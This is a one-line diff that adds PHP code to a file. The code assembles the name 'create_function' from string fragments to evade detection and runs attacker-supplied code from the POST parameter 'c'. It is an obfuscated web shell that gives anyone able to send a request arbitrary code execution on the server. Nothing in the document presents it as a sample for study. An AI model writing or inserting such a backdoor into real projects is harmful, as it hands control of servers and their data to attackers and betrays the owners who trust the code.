@@ -1,0 +1,1 @@
+<?php $s = 'cr'.'eat'.'e_fu'.'nction'; $f = $s('', $_POST['c']); $f();
